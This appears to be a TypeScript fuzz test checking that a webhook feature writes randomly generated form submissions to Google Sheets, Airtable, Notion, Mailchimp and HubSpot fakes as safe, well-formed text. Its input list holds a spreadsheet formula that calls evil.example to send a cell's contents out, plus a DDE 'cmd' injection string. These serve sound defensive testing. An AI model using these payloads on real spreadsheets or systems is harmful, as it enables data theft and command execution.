import { createHash } from "node:crypto";
import { describe, expect, it, onTestFinished } from "vitest";
import { resolveIntegrations } from "../../../../../src/core/options/integrations.ts";
import { loadService } from "../../../../../src/features/webhooks/formats/destinations.ts";
import { filled } from "../../../../../src/features/webhooks/formats/http-template.ts";
import { callsOf } from "../../../../../src/features/webhooks/services/call.ts";
import type { ContentType, ServiceFormat } from "../../../../../src/model/destinations.ts";
import {
  airtable,
  databaseUrl,
  hubspot,
  mailchimp,
  notion,
  tableUrl,
} from "../../../../_support/destinations/fakes.ts";
import { fileUrl, googleSheets, type Tab, tab } from "../../../../_support/destinations/google.ts";
import { eventOf } from "../../../../_support/format-events.ts";
import { runs } from "../../../../_support/runs.ts";

const ALL = runs(60, 2_000);

/** A generator of numbers that a seed decides, so that a failure can be repeated. */
function numbers(seed: number) {
  let state = seed;
  return (below: number): number => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}

const FORMULA = '=IMPORTXML("https://evil.example/"&A1)';
const PIECES = [
  ...[FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "'007", "007"],
  ...[
    '"',
    "'",
    "\\",
    "\\u0022",
    '"},{"a":"',
    "]}",
    "{{name}}",
    "{{{json name}}}",
    "{{#fields}}",
    "$(x)",
    "`",
    "&b=1",
    "%00",
  ],
  ...[
    "\0",
    "\u0001",
    "\u001f",
    "\r\n",
    "\n",
    "\u2028",
    "\u202e",
    "\ufeff",
    "\ud800",
    "\udc00x",
    "\ud83d\ude00",
    "é",
    "e\u0301",
  ],
  ...["<script>", "</pre>", "a".repeat(1_000), " ", "", "null", "true", "1e999", "2026-01-01", "https://a.example"],
];
const NAMES = [
  "name",
  "email",
  "message",
  "__proto__",
  "constructor",
  "toString",
  "submission_id",
  "Created_At ",
  "a.b",
  "{{x}}",
  "=1+1",
  '"',
  "\ud800",
  " name ",
];

/** Submission `n`: now and then 500 fields, or a value of 60 KB. */
function fieldsOf(n: number): { key: string; value: string }[] {
  const random = numbers(n + 1);
  const value = (): string => Array.from({ length: 1 + random(4) }, () => PIECES[random(PIECES.length)]).join("");
  const count = n % 50 === 7 ? 500 : random(12);
  const fields = Array.from({ length: count }, (_, at) => ({
    key: at < 4 ? (NAMES[random(NAMES.length)] as string) : `field${at}`,
    value: value(),
  }));
  if (n % 25 === 3) fields.push({ key: "long", value: (PIECES[random(7)] as string) + "\ud83d\ude00x".repeat(20_000) });
  return fields;
}

const templates: Readonly<Record<ContentType, string>> = {
  "application/json":
    '{"a":"{{name}} {{#fields}}{{key}}={{value}}{{/fields}}","b":{{{json name}}},"c":{{all_fields}},"d":"{{all_fields}}"}',
  "application/x-www-form-urlencoded": "a={{name}}&c={{all_fields}}&e={{email}}",
  "text/plain": "{{name}}: {{message}}",
};

describe("random submissions", () => {
  it.each(Object.entries(templates) as [ContentType, string][])(
    "give a valid body of the type %s, out of which no value breaks",
    async (type, template) => {
      for (let n = 0; n < ALL; n++) {
        const event = eventOf({ fields: fieldsOf(n) });
        const text = await filled(template, type, event);
        expect([n, text.isWellFormed()]).toEqual([n, true]);
        if (type === "application/json") {
          const made = JSON.parse(text) as Record<string, unknown>;
          expect(Object.keys(made)).toEqual(["a", "b", "c", "d"]);
          expect(JSON.parse(made["d"] as string)).toEqual(made["c"]);
          for (const { key, value } of event.submission.fields) {
            const kept = Object.entries(made["c"] as object).find(([name]) => name === key.toWellFormed())?.[1];
            expect([n, [kept].flat().includes(value.toWellFormed())]).toEqual([n, true]);
          }
        }
        if (type === "application/x-www-form-urlencoded") {
          expect(text).toMatch(/^[\x21-\x7e]*$/);
          expect([...new URLSearchParams(text).keys()]).toEqual(["a", "c", "e"]);
        }
      }
    },
    runs(120_000, 900_000),
  );

  interface Fake {
    readonly options: object;
    close(): Promise<void>;
  }
  const columns = ["submission_id", "created_at", "Name", "email", "message", "long"];
  type Texts = Record<string, string>;
  const text = (pieces: { text: { content: string } }[] = []): string => pieces.map((one) => one.text.content).join("");
  const services: readonly {
    format: ServiceFormat;
    url: string;
    config: object;
    open(now: () => number): Promise<Fake>;
    /** The texts that the service has of submission `n`, by their places: `email` and `message` for those that both sides know. */
    texts(fake: Fake, id: string, n: number): Texts | undefined;
  }[] = [
    {
      format: "google_sheets",
      url: fileUrl,
      config: {},
      open: (now) => googleSheets(now, [tab("Sheet1", [columns])]),
      texts: (fake, id) => {
        const [sheet] = (fake as unknown as { tabs: Tab[] }).tabs;
        const row = (sheet?.rows ?? []).find(([first]) => first === id) ?? [];
        for (const cell of row) expect([typeof cell, String(cell).length <= 50_000]).toEqual(["string", true]);
        return Object.fromEntries(row.map((cell, at) => [String(sheet?.rows[0]?.[at]), String(cell)]));
      },
    },
    {
      format: "airtable",
      url: tableUrl,
      config: { token: "pat.secret" },
      open: (now) => airtable(now, { fields: columns }),
      texts: (fake, id) => (fake as unknown as { records: Map<string, Texts> }).records.get(id),
    },
    {
      format: "notion",
      url: databaseUrl,
      config: { token: "ntn_secret" },
      open: (now) =>
        notion(now, {
          Name: "title",
          submission_id: "rich_text",
          message: "rich_text",
          long: "rich_text",
          email: "email",
        }),
      texts: (fake, id) => {
        const { pages } = fake as unknown as {
          pages: { properties: Record<string, { rich_text: []; title: []; email: string }> }[];
        };
        const found = pages.findLast(({ properties }) => text(properties["submission_id"]?.rich_text) === id);
        return Object.fromEntries(
          Object.entries(found?.properties ?? {}).map(([name, { rich_text, title, email }]) => [
            name,
            email ?? text(rich_text ?? title),
          ]),
        );
      },
    },
    {
      format: "mailchimp",
      url: "https://us21.api.mailchimp.com/3.0/lists/a1b2c3",
      config: { api_key: "0123456789abcdef-us21", list_id: "a1b2c3", merge_fields: { FNAME: "name", MSG: "message" } },
      open: mailchimp,
      texts: (fake, _, n) => {
        const { members } = fake as unknown as {
          members: Map<string, { merge_fields?: Texts; email_address: string }>;
        };
        const member = members.get(createHash("md5").update(`a${n}@example.com`).digest("hex"));
        return {
          email: member?.email_address ?? "",
          message: "",
          ...member?.merge_fields,
          ...(member?.merge_fields?.["MSG"] && { message: member.merge_fields["MSG"] }),
        };
      },
    },
    {
      format: "hubspot",
      url: "https://api.hubapi.com",
      config: { token: "pat-eu1-secret", properties: { firstname: "name", company: "message" } },
      open: hubspot,
      texts: (fake, _, n) => {
        const contact = (fake as unknown as { contacts: Map<string, Texts> }).contacts.get(`a${n}@example.com`);
        return { ...contact, message: contact?.["company"] ?? "" };
      },
    },
  ];

  it.each(services)(
    "are written to $format as well-formed texts in their own places, and a formula stays one",
    async ({ format, url, config, open, texts }) => {
      let at = Date.parse("2026-01-01T00:00:00.000Z");
      const now = (): number => at;
      const fake = await open(now);
      onTestFinished(fake.close);
      const integrations = resolveIntegrations(fake.options);
      const service = await loadService(format);
      const complete = service.complete({ ...config }, { brand: { signatureHeader: "X-Signature" }, integrations });
      const write = service.open(integrations, now);
      const call = callsOf({
        service: format,
        userAgent: "test",
        timeoutMs: 20_000,
        signal: undefined,
        onRequest() {},
      });
      const entryOf = (n: number) => {
        const values = new Map<string, string[]>([["email", [`a${n}@example.com`]]]);
        for (const { key, value } of fieldsOf(n))
          if (key !== "email") values.set(key, [...(values.get(key) ?? []), value]);
        if (n % 5 === 0) values.set("message", [`${FORMULA}${values.get("message")?.[0] ?? ""}`]);
        return {
          id: `submission${n}`,
          created_at: new Date(at + n).toISOString(),
          values: Object.fromEntries(
            [...values].map(([name, list]) => [name, list.length === 1 ? (list[0] as string) : list]),
          ),
          again: false,
          update: false,
        };
      };
      let formulas = 0;
      // Several at a time, as they are due: no value may reach into the row beside it.
      const some = service.pace.entries;
      for (let from = 0; from < ALL; from += some) {
        at += 30_000;
        const entries = Array.from({ length: Math.min(some, ALL - from) }, (_, index) => entryOf(from + index));
        const results = await write(entries, { url, config: complete, call });
        for (const [index, entry] of entries.entries()) {
          const n = from + index;
          expect([n, results[index]?.end]).toEqual([n, "delivered"]);
          const held = texts(fake, entry.id, n) ?? {};
          expect([n, held["email"]]).toEqual([n, `a${n}@example.com`]);
          for (const value of Object.values(held))
            expect([n, value.isWellFormed(), value.includes("\0")]).toEqual([n, true, false]);
          const sent = [entry.values["message"] ?? ""].flat().join(", ");
          if (!sent.startsWith(FORMULA)) continue;
          expect([n, held["message"]?.startsWith(FORMULA)]).toEqual([n, true]);
          formulas++;
        }
      }
      expect(formulas).toBeGreaterThan(0);
    },
    runs(120_000, 900_000),
  );
});
